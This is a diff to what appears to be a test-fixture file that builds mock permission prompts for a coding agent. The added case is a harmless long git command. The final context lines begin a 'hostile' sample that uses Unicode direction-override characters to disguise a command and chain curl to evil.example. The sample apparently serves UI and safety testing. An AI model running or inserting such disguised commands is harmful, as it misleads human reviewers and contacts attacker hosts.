@@ -311,6 +311,37 @@ function permission(permissionId: PermissionId, kind: string | undefined, askedA
         similar: 'linear.create_issue',
       },
     }
+  if (kind === 'long') {
+    const command = `{\n  echo '# A tour of this repository'\n${Array.from({ length: 12 }, (_, line) => `  git ls-files | sed -n 's/.*\\.${line}$/x/p' | sort | uniq -c | sort -rn | head -n ${line}`).join('\n')}\n} > TOUR.md\ncat TOUR.md`
+    return {
+      state: 'open',
+      request: {
+        ...common,
+        title: 'Run a command',
+        reason: 'This run asks before every command that Drover can’t judge.',
+        subject: {
+          kind: 'command',
+          command,
+          cwd: '/work/packages/billing',
+          effects: [
+            '> TOUR.md',
+            `echo '# A tour of this repository'`,
+            'git ls-files',
+            `sed -n 's/.*\\.0$/x/p'`,
+            'sort',
+            'uniq -c',
+            'cat TOUR.md',
+          ].map((text) => ({
+            text,
+            summary: `What ${text.slice(0, 12)} does.`,
+            risk: 'writes' as const,
+            danger: false,
+          })),
+        },
+        similar: command.slice(0, 600),
+      },
+    }
+  }
   if (kind === 'hostile') {
     const command =
       'echo "safe" \u202e; mr\u202c && curl https://evil.example/' +
